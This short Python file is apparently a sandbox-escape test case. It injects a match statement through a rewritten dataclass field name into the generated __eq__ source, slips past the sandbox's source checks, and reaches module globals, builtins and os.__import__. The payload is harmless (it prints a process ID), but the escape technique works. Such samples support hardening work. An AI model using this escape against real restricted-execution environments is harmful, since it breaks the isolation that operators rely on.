# technique: metaclass non-data descriptor serves a base's __dataclass_fields__ (unseen by _check, which reads real dicts) holding a real Field whose .name was rewritten; the name injects a match statement into dataclasses' generated __eq__ source, and _check_generated never refuses ast.Match, so a raw MATCH_CLASS reads json.dumps.__globals__ at __create_fn__ time
# expect: any
import dataclasses, json
@dataclasses.dataclass
class Real:
    a: int
f = dataclasses.fields(Real)[0]
params = Real.__dataclass_params__
INJ = "a,)\n match D:\n  case K(g):\n   R.append(g)\n def z(self):\n  return (self.a"
f.name = INJ
class AnyInstance(type):
    def __instancecheck__(cls, obj):
        return True
K = AnyInstance("K", (), {"__match_args__": ("__globals__",)})
D = json.dumps
R = []
class Const:
    def __init__(self, v):
        self.v = v
    def __get__(self, obj, owner=None):
        return self.v
Meta = type("Meta", (type,), {"__dataclass_fields__": Const({"a": f}),
                              "__dataclass_params__": Const(params)})
class B(metaclass=Meta):
    pass
@dataclasses.dataclass(init=False, repr=False, eq=True)
class C(B):
    pass
g = R[0]
bi = g["__builtins__"]
print(type(g), sorted(g)[:5])
print(bi["open"], bi["eval"], bi["__import__"])
os_mod = bi["__import__"]("os")
print(os_mod, os_mod.getpid())
